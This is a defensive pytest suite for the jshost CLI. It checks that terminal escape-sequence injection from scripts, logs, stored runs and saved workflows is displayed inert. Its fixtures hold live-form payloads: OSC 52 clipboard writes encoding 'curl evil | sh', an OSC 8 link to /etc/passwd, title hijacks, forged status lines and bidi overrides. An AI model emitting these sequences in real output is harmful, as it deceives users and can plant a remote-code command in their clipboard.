"""Terminal injection: nothing a script, a model, a saved file or the store says is obeyed.

A hostile script puts live escape sequences into every text it controls: ``log()``,
``console.log``, labels, phase titles, prompts (and so the sim's answers), failure messages,
its meta name and description, its result and a thrown error. They are OSC 52 (writes the
clipboard), OSC 0 (window title), OSC 8 (hyperlinks), ``ESC[2J``, cursor-up + erase-line (a
forged line), BEL, the C1 forms of CSI/OSC/ST, bidi overrides and isolates, zero-width
characters and a lone surrogate. It runs through the real CLI, on a pseudo-terminal (the live
view, the interactive view) and with pipes (plain lines); then ``runs``, ``inspect``,
``list``, ``save`` and ``watch`` read what was stored. Every output must carry none of it
live (jshost's own styling may), and every machine output must give back the exact value.
"""

from __future__ import annotations

import asyncio
import fcntl
import json
import os
import pty
import re
import select
import struct
import subprocess
import sys
import termios
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from jshost.cli import cli
from jshost.script.diagnostics import excerpt
from jshost.store import Store
from jshost.text import cell_width, json_text, printable
from jshost.ui.interactive import RunApp, StoreSource

ROOT = Path(__file__).resolve().parents[2]
DEADLINE = 60.0

# The attacks, as the JS source writes them (the file itself is plain ASCII and validates).
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # base64 of `curl evil | sh`
OSC0 = "\x1b]0;PWNED-TITLE\x07"
OSC8 = "\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C1 = "\x9b2J\x9d0;C1-TITLE\x9c"
BIDI = "a\u202eb\u2066c\u200bd\ufeff"
FORGE = "\x1b[1A\x1b[2KFORGED-COMPLETED"
ALL = OSC52 + OSC0 + OSC8 + CLEAR + C1 + BIDI + "x\ud800y" + "\x07\x7f" + FORGE
# An agent() call refuses a lone surrogate (it cannot reach a model), so calls get the rest.
CALL = ALL.replace("\ud800", "")
FAILURE = "failure \x1b[1A\x1b[2KFORGED-FAILURE\x07\x9d0;C1\x9c\u202e"

SCRIPT = r"""export const meta = {
  name: 'inject\x1b]0;PWNED-TITLE\x07\u202e',
  description: 'desc\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b2J\u200b',
  whenToUse: 'when\x1b[2J',
  phases: [{ title: 'Phase\x1b[2J\x07' }],
}
const OSC52 = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'
const OSC0 = '\x1b]0;PWNED-TITLE\x07'
const OSC8 = '\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\'
const CLEAR = '\x1b[2J\x1b[H'
const FORGE = '\x1b[1A\x1b[2KFORGED-COMPLETED'
const C1 = '\x9b2J\x9d0;C1-TITLE\x9c'
const BIDI = 'a\u202eb\u2066c\u200bd\ufeff'
const ALL = OSC52 + OSC0 + OSC8 + CLEAR + C1 + BIDI + 'x\ud800y' + '\x07\x7f' + FORGE
const CALL = ALL.replace('\ud800', '')
phase('Phase\x1b[2J\x07')
log('log ' + ALL)
console.log('console ' + ALL)
const a = await agent('prompt ' + CALL, { label: 'label ' + CALL })
try { await agent('prompt ' + ALL) } catch (e) { log('refused ' + e.message) }
await agent('[[sim:fail=failure \x1b[1A\x1b[2KFORGED-FAILURE\x07\x9d0;C1\x9c\u202e]] x', {
  label: 'fails' + OSC0,
})
phase('P2' + OSC0 + FORGE)
if (args && args.throw) throw new Error('thrown ' + ALL)
return args && args.string ? 'result ' + ALL : { text: 'result ' + ALL, a }
"""

#: what must never reach a terminal from the script: escape introducers that jshost's own
#: styling does not use (it uses CSI SGR and cursor moves), BEL, C1, bidi and zero-width
FORBIDDEN = [
    "\x1b]52",
    "\x1b]0;PWNED",
    "\x1b]8;;file",
    "\x07",
    "\x9b",
    "\x9c",
    "\x9d",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\x7f",
    "\ufffd",  # a lone surrogate written raw would not decode
]


#: what textual itself writes that ends in BEL: the pointer shape (OSC 22)
_OWN = re.compile(r"\x1b\]22;[a-z-]*\x07")


def assert_inert(out: str) -> None:
    """Nothing of the attacks is live in ``out`` (jshost's own styling may be)."""
    out = _OWN.sub("", out)
    for bad in FORBIDDEN:
        assert bad not in out, f"{bad!r} reached the output:\n{out[:3000]!r}"
    # The forged lines come with their erase-line shown, never obeyed.
    assert "\x1b[2KFORGED" not in out
    assert "\x1b[2J\x1b[H" not in out


def decoded(data: bytes) -> str:
    return data.decode("utf-8", "replace")


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "inject.js"
    path.write_text(SCRIPT, encoding="ascii")
    return path


def run_piped(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items() if k != "JSHOST_RAISE_ERRORS"}
    env["PYTHONPATH"] = str(ROOT)
    return subprocess.run(
        [sys.executable, "-m", "jshost", *args],
        capture_output=True,
        cwd=cwd,
        env=env,
        timeout=DEADLINE,
        stdin=subprocess.DEVNULL,
    )


class Pty:
    """``jshost`` on a pseudo-terminal (100×40): everything it writes, raw."""

    def __init__(self, *args: str, cwd: Path | None = None) -> None:
        master, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 100, 0, 0))
        env = {k: v for k, v in os.environ.items() if k not in ("JSHOST_RAISE_ERRORS", "NO_COLOR")}
        env.update(TERM="xterm-256color", PYTHONPATH=str(ROOT), COLUMNS="100", LINES="40")
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "jshost", *args],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            cwd=cwd,
            env=env,
            start_new_session=True,
        )
        os.close(slave)
        self.master = master
        self.raw = b""

    def read(self, timeout: float = 0.1) -> None:
        while select.select([self.master], [], [], timeout)[0]:
            try:
                data = os.read(self.master, 65536)
            except OSError:
                return
            if not data:
                return
            self.raw += data
            timeout = 0

    @property
    def text(self) -> str:
        return decoded(self.raw)

    def expect(self, needle: str) -> None:
        deadline = time.monotonic() + DEADLINE
        while needle not in self.text:
            assert time.monotonic() < deadline, f"{needle!r} not seen in:\n{self.text[-3000:]!r}"
            assert self.proc.poll() is None, f"exited before {needle!r}:\n{self.text[-3000:]!r}"
            self.read()

    def type(self, keys: bytes) -> None:
        os.write(self.master, keys)

    def finish(self) -> int:
        deadline = time.monotonic() + DEADLINE
        while self.proc.poll() is None:
            if time.monotonic() > deadline:
                self.proc.kill()
                raise AssertionError(f"still running:\n{self.text[-3000:]!r}")
            self.read()
        self.read()
        os.close(self.master)
        return self.proc.returncode


def stored_run() -> Any:
    with Store(reading=True) as store:
        run = store.list_runs(limit=1)[0]
        return run, store.agents(run.id), store.logs(run.id)


# ---- the sanitiser itself ------------------------------------------------------------------


def test_printable_makes_every_attack_visible_and_inert():
    shown = printable(ALL)
    assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for ch in shown)
    assert "⟨U+001B⟩]52;c;" in shown and "⟨U+009B⟩2J" in shown and "⟨U+202E⟩" in shown
    assert "x⟨U+D800⟩y" in shown and "⟨U+007F⟩" in shown and "⟨U+0007⟩" in shown
    assert printable(shown) == shown  # applying it twice changes nothing
    assert printable("plain text, é, 日本, 👍") == "plain text, é, 日本, 👍"
    # One value stays on one line unless the surface shows multi-line text.
    assert printable("a\nb\tc\r\nd\re") == "a⟨U+000A⟩b⟨U+0009⟩c⟨U+000D⟩⟨U+000A⟩d⟨U+000D⟩e"
    assert printable("a\nb\tc\r\nd\re", multiline=True) == "a\nb\tc\nd⟨U+000D⟩e"
    assert printable("\u2028\U000e0001", multiline=True) == "⟨U+2028⟩⟨U+E0001⟩"
    assert printable(12) == "12"


def test_the_sanitiser_covers_every_control_format_and_surrogate_code_point():
    # The module lists the code points instead of asking unicodedata for each character:
    # this checks the list against the Unicode version of the running Python.
    for cp in range(0x110000):
        ch = chr(cp)
        if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp") and ch not in "\n\t":
            assert printable(ch, multiline=True) == f"⟨U+{cp:04X}⟩", hex(cp)


@pytest.mark.parametrize(
    "value",
    [ALL, {"k" + ALL: [ALL, 1, None]}, "\U000e0001\u2028\x85", "x\ud800y\udfffz"],
    ids=["string", "nested", "astral-format", "surrogates"],
)
def test_json_text_is_exact_and_shows_nothing_live(value):
    dumped = json.dumps(value, ensure_ascii=False, indent=2)
    safe = json_text(dumped)
    assert json.loads(safe) == value
    assert all(
        unicodedata.category(ch) not in ("Cc", "Cf", "Cs", "Zl", "Zp") or ch == "\n" for ch in safe
    )


def test_an_excerpt_shows_hidden_characters_and_keeps_the_caret_under_its_character():
    line = "const s = 'ab\u202ecd'; const t = '\u2066x'; const u = 'a\u200bb'; bad(1)"
    for target in ("\u202e", "\u2066", "\u200b", "b", "bad"):
        column = line.index(target) + 1
        shown, caret = excerpt(line, 1, column).split("\n")
        assert all(unicodedata.category(ch) not in ("Cc", "Cf") for ch in shown)
        at = len(caret) - 1
        assert caret == " " * at + "^"
        assert shown[at:].startswith(printable(target)), (target, shown, caret)
    # Wide characters take two cells: the caret still lands under its character.
    shown, caret = excerpt("const 名前 = \x1b; x", 1, 12).split("\n")
    assert cell_width(shown[: shown.index("⟨U+001B⟩")]) == len(caret) - 1


# ---- run: plain lines, pipes -----------------------------------------------------------------


def test_plain_progress_summary_and_error_show_every_attack_inert(hostile):
    out = run_piped("run", str(hostile), "--yes", "--sim-latency", "0", "--args", '{"throw":1}')
    assert out.returncode == 1
    err = decoded(out.stderr)
    assert_inert(err)
    assert "Traceback" not in err
    # Each surface showed the attack visibly: phase, log, console, label, failure, summary,
    # meta name and description, and the thrown error's line.
    assert "phase Phase⟨U+001B⟩[2J⟨U+0007⟩" in err
    assert "log log ⟨U+001B⟩]52;c;Y3VybCBldmlsIHwgc2g=⟨U+0007⟩" in err
    assert "log console ⟨U+001B⟩]52;c;" in err
    assert "[label ⟨U+001B⟩]52;c;" in err
    assert "failure [fails⟨U+001B⟩]0;PWNED-TITLE⟨U+0007⟩] failed: failure ⟨U+001B⟩[1A" in err
    assert "running inject⟨U+001B⟩]0;PWNED-TITLE⟨U+0007⟩⟨U+202E⟩: desc⟨U+001B⟩]52" in err
    assert "jshost: " in err and "Error: thrown ⟨U+001B⟩]52;c;" in err
    summary = err[err.index("failed · agents") :]
    assert "  [fails⟨U+001B⟩]0;PWNED-TITLE⟨U+0007⟩] failed: failure ⟨U+001B⟩[1A" in summary


def test_a_piped_result_is_the_exact_value(hostile):
    out = run_piped("run", str(hostile), "--yes", "--sim-latency", "0", "--args", '{"string":1}')
    assert out.returncode == 0, decoded(out.stderr)
    assert_inert(decoded(out.stderr))
    exact = ("result " + ALL).replace("\ud800", "\\ud800")  # nothing can encode it raw
    assert out.stdout.decode("utf-8") == exact + "\n"
    # A JSON result piped is the exact value too, and so is --json.
    out = run_piped("run", str(hostile), "--yes", "--sim-latency", "0")
    assert json.loads(out.stdout)["text"] == "result " + ALL
    out = run_piped("run", str(hostile), "--yes", "--sim-latency", "0", "--json")
    summary = json.loads(out.stdout.splitlines()[-1])
    assert summary["result"]["text"] == "result " + ALL
    assert summary["workflow"] == "inject\x1b]0;PWNED-TITLE\x07\u202e"


# ---- run on a terminal: the live view, the result, the interactive view ------------------------


def test_the_live_view_and_a_result_on_a_terminal_show_every_attack_inert(hostile):
    term = Pty("run", str(hostile), "--yes", "--live", "--no-interactive", "--args", '{"string":1}')
    assert term.finish() == 0, term.text[-3000:]
    assert_inert(term.text)
    assert "result ⟨U+001B⟩]52;c;" in term.text  # the result, shown safely
    assert "⟨U+001B⟩[1A⟨U+001B⟩[2KFORGED-COMPLETED" in term.text
    assert "completed · agents" in term.text

    term = Pty("run", str(hostile), "--yes", "--live", "--no-interactive", "--args", '{"throw":1}')
    assert term.finish() == 1
    assert_inert(term.text)
    # On a terminal the error line wraps at words: the long marker run may start a new line.
    assert re.search(r"Error:\s+thrown\s+⟨U\+001B⟩\]52;c;", term.text)


def test_the_interactive_view_on_a_terminal_shows_every_attack_inert(hostile):
    term = Pty("run", str(hostile), "--yes", "--args", '{"string":1}')
    term.expect("finished: q leaves")
    term.type(b"\r")  # the run's row → its agents
    term.expect("fails")
    term.type(b"\r")  # the first agent's detail: its prompt and result
    term.expect("▸ prompt")
    term.type(b"\x1b[A")  # the prompt section
    term.type(b"\r")  # expanded
    time.sleep(0.5)
    term.read()
    term.type(b"q")
    assert term.finish() == 0, term.text[-3000:]
    assert_inert(term.text)
    assert "⟨U+001B⟩]52;c;" in term.text


# ---- what reads the store: runs, inspect, watch --------------------------------------------------


@pytest.fixture
def stored(hostile) -> str:
    out = run_piped("run", str(hostile), "--yes", "--sim-latency", "0", "--args", '{"string":1}')
    assert out.returncode == 0, decoded(out.stderr)
    return stored_run()[0].id


@pytest.mark.parametrize(
    "args",
    [
        ["runs"],
        ["inspect", "RUN"],
        ["inspect", "RUN", "--agent", "1"],
        ["inspect", "RUN", "--agent", "2"],
        ["inspect", "RUN", "--result"],
        ["inspect", "RUN", "--json"],
        ["inspect", "RUN", "--journal"],
        ["inspect", "RUN", "--agent", "1", "--json"],
    ],
    ids=lambda a: " ".join(a[2:]) or a[0],
)
def test_runs_and_every_inspect_mode_on_a_terminal_show_nothing_live(stored, args):
    term = Pty(*(stored if a == "RUN" else a for a in args))
    assert term.finish() == 0, term.text[-3000:]
    assert_inert(term.text)
    assert "⟨U+001B⟩" in term.text or "\\u001b" in term.text


def test_human_inspect_views_are_safe_even_when_piped(stored):
    for args in (["runs"], ["inspect", stored], ["inspect", stored, "--agent", "1"]):
        out = run_piped(*args)
        assert out.returncode == 0, decoded(out.stderr)
        assert_inert(decoded(out.stdout))
        assert "⟨U+001B⟩" in decoded(out.stdout)


def test_machine_outputs_of_inspect_stay_exact(stored):
    runner = CliRunner()
    full = json.loads(runner.invoke(cli, ["inspect", stored, "--json"]).output)
    assert full["result"] == "result " + ALL
    assert full["name"] == "inject\x1b]0;PWNED-TITLE\x07\u202e"
    # The store keeps a lone surrogate in a log line as the text "\\ud800".
    kept = ALL.replace("\ud800", "\\ud800")
    assert full["agents"][0]["label"] == "label " + CALL
    assert "log " + kept in full["logs"]
    assert any("FORGED-FAILURE\x07\x9d0;C1\x9c\u202e" in f for f in full["failures"])
    journal = runner.invoke(cli, ["inspect", stored, "--journal"]).output
    results = [json.loads(line) for line in journal.splitlines()]
    assert any(e.get("result") == full["agents"][0]["result"] for e in results)
    assert all(not unicodedata.category(ch).startswith("C") for ch in journal if ch != "\n")
    piped = run_piped("inspect", stored, "--result")
    assert piped.stdout.decode() == ("result " + ALL).replace("\ud800", "\\ud800") + "\n"


def test_watch_of_the_stored_run_shows_nothing_live(stored):
    term = Pty("watch", stored)
    term.expect("tokens ")
    term.type(b"\r")
    term.expect("fails")
    term.type(b"\r")
    term.expect("▸ prompt")
    time.sleep(0.3)
    term.type(b"q")
    assert term.finish() == 0, term.text[-3000:]
    assert_inert(term.text)


def test_the_interactive_view_draws_no_control_character_in_any_segment(stored):
    """Through textual's pilot: every strip of every screen the view draws is inert text."""
    seen: list[str] = []

    def check(app: RunApp) -> None:
        for strip in app.screen._compositor.render_strips():
            seen.append("".join(segment.text for segment in strip if not segment.control))
            for segment in strip:
                if segment.control:
                    continue
                for ch in segment.text:
                    assert unicodedata.category(ch) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), (
                        f"{ch!r} drawn in {segment.text!r}"
                    )

    async def scenario() -> None:
        with Store(reading=True) as store:
            app = RunApp(StoreSource(store, stored))
            async with app.run_test(size=(120, 40)) as pilot:
                deadline = time.monotonic() + DEADLINE
                while app.view is None:
                    assert time.monotonic() < deadline, "the view never read the run"
                    await pilot.pause(0.05)
                # The run, its agents, agent #1's detail (result), its prompt expanded, #2's.
                steps = ([], ["enter"], ["enter"], ["up", "enter"], ["escape", "down", "enter"])
                for keys in steps:
                    for key in keys:
                        await pilot.press(key)
                        await pilot.pause(0.1)
                    await pilot.pause(0.3)
                    check(app)
                await pilot.press("s")  # the save dialog names the workflow
                await pilot.pause(0.3)
                check(app)

    asyncio.run(scenario())
    drawn = "\n".join(seen)
    for shown in (
        "inject⟨U+001B⟩]0;PWNED",  # the header
        "#1 done      label ⟨U+001B⟩]52",  # an agent row
        "phase Phase⟨U+001B⟩[2J⟨U+0007⟩",  # the detail
        "[[sim:fail=failure ⟨U+001B⟩[1A⟨U+001B⟩[2KFORGED-FAILURE",  # a prompt
        "\n failure ⟨U+001B⟩[1A⟨U+001B⟩[2KFORGED-FAILURE",  # an error
        "⟨U+001B⟩]52;c;Y3VybCBldmlsIHwgc2g=⟨U+0007⟩⟨U+001B⟩]0;PWNED",  # the log
    ):
        assert shown in drawn, f"{shown!r} not drawn:\n{drawn}"


# ---- saved workflows: save, list -----------------------------------------------------------------


def test_save_and_list_show_a_hostile_saved_file_inert(hostile, tmp_path):
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    out = run_piped("save", str(hostile), cwd=project)
    assert out.returncode == 0, decoded(out.stderr)
    text = decoded(out.stdout)
    assert_inert(text)
    # The name cannot be typed as shown: the hint names the saved file instead.
    saved = project / ".claude" / "workflows" / "inject-0-pwned-title.js"
    assert f"run it with: jshost run {saved}" in text
    term = Pty("list", cwd=project)
    assert term.finish() == 0
    assert_inert(term.text)
    assert "desc⟨U+001B⟩]52;c;" in term.text and "Phase⟨U+001B⟩[2J" in term.text
    listed = json.loads(run_piped("list", "--json", cwd=project).stdout)["workflows"][0]
    assert listed["name"] == "inject\x1b]0;PWNED-TITLE\x07\u202e"  # exact as JSON


# ---- validate, run and save of a file that holds raw control bytes ------------------------------

RAW = (
    "export const meta = { name: 'raw', description: 'raw bytes' }\n"
    "const s = 'ab\u202ecd'; const c = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'; const z = 'a\u200bb'\n"
    "return s\n"
)


@pytest.mark.parametrize("command", ["validate", "run", "save"])
def test_a_file_with_raw_control_bytes_is_reported_without_obeying_them(tmp_path, command):
    path = tmp_path / "raw.js"
    path.write_text(RAW, encoding="utf-8")
    args = [command, str(path)] + (["--yes"] if command == "run" else [])
    term = Pty(*args, cwd=tmp_path)
    code = term.finish()
    assert code in (1, 2), term.text
    assert_inert(term.text)
    lines = term.text.replace("\r", "").split("\n")
    excerpts = [i for i, line in enumerate(lines) if "⟨U+001B⟩]52;c;" in line]
    assert excerpts, term.text
    # Under each excerpt the caret stands under the character the diagnostic names.
    for i in excerpts:
        shown, caret = lines[i], lines[i + 1]
        at = len(caret) - 1
        assert caret.strip() == "^"
        assert shown[at:].startswith("⟨U+"), (shown, caret)


def test_validate_json_of_a_file_with_raw_control_bytes_is_exact_and_inert(tmp_path):
    path = tmp_path / "raw.js"
    path.write_text(RAW, encoding="utf-8")
    term = Pty("validate", "--json", str(path), cwd=tmp_path)
    assert term.finish() == 1
    assert_inert(term.text)
    out = run_piped("validate", "--json", str(path))
    found = json.loads(out.stdout)["files"][0]["diagnostics"]
    assert {d["code"] for d in found} == {"E102"}
    assert any("U+202E" in d["message"] for d in found)
